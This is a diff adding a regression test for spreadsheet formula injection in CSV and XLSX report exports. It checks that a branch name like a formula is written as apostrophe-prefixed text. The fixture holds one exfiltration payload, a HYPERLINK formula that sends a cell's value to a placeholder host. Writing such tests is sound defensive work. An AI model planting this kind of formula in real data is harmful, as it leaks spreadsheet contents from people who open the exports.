@@ -274,6 +274,27 @@ def test_xlsx_export(client, data):
     assert centre[1:4] == (3, 3, 1) and centre[18:] == (100.0, 100.0, 14.0, None)
 
 
+@pytest.fixture
+def formula_named_branch(data):
+    branch = data["world"]["org"]["branch1"]
+    branch.name = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'
+    branch.save()
+    return branch.name
+
+
+def test_exports_write_a_formula_like_unit_name_as_text(client, data, formula_named_branch):
+    client.force_login(data["world"]["people"]["admin"])
+    response = client.get("/reports/export.csv" + QUERY)
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert ["'" + formula_named_branch, "2", "0", "2"] == next(line for line in lines if "Xem" in line[0])[:4]
+    response = client.get("/reports/export.xlsx" + QUERY)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    [label] = [row[0] for row in sheet.iter_rows() if "Xem" in str(row[0].value)]
+    assert label.data_type == "s" and label.value == "'" + formula_named_branch
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert [cell.value for cell in label.parent[label.row][1:4]] == [2, 0, 2]  # numbers stay numbers
+
+
 def test_report_page_query_count_is_constant(client, data):
     client.force_login(data["world"]["people"]["admin"])
 
